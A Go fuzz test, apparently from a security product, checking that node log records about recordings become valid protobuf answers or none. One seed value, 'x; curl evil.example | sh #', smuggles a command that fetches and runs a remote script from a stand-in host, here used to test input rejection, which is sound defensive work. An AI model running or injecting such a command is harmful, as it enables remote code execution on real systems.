package api

import (
	"regexp"
	"strings"
	"testing"
	"time"

	"google.golang.org/protobuf/proto"

	"github.com/bulkhead-security/bulkhead/model"
)

var uuidOf36 = regexp.MustCompile(`^[0-9a-fA-F]{8}(-[0-9a-fA-F]{4}){3}-[0-9a-fA-F]{12}$`)

// FuzzRecordingOut: whatever a node's log says of a recording becomes an answer that can be sent, or none.
func FuzzRecordingOut(f *testing.F) {
	f.Add("bulkhead/node/n", "0198f2c4-0000-7000-8000-000000000001", "sha256:00", "12", "2026-11-26T10:00:00Z", int64(1_700_000_000))
	f.Add("bulkhead/node/", "", "x", "-1", "0000-00-00", int64(-1))
	f.Add("elsewhere", "\xff", "\xff", "99999999999999999999", "9999-12-31T23:59:59Z", int64(1<<62))
	f.Add("bulkhead/node/n", "x; curl evil.example | sh #", "sha256:00", "1", "", int64(1))
	f.Add("bulkhead/node/n", "{0198f2c4-0000-7000-8000-000000000001}", "sha256:00", "1", "", int64(1))
	f.Fuzz(func(t *testing.T, origin, id, digest, bytes, start string, at int64) {
		l := &model.LogRecord{Origin: origin, Record: model.Record{
			Action: recordedAction, Resource: model.Ref{Type: recordedResource, ID: id}, Time: time.Unix(at, 0),
			Changes: map[string]string{"digest": digest, "bytes": bytes, "start": start, "end": start, "lost": bytes, "command": digest},
		}}
		x := recordingOut(l)
		if x == nil {
			if strings.HasPrefix(origin, model.NodeLogs) && digest != "" && uuidOf36.MatchString(id) {
				t.Fatal("a recording of a node is not listed")
			}
			return
		}
		if !uuidOf36.MatchString(x.GetId()) || x.GetBytes() < 0 || x.GetLost() < 0 || !strings.HasPrefix(origin, model.NodeLogs) {
			t.Fatalf("%v", x)
		}
		if _, err := proto.Marshal(x); err != nil && validTexts(origin, id, digest) {
			t.Fatal(err)
		}
	})
}

// validTexts says whether texts are UTF-8, as what is decoded from a log always is.
func validTexts(all ...string) bool {
	for _, s := range all {
		if strings.ToValidUTF8(s, "") != s {
			return false
		}
	}
	return true
}
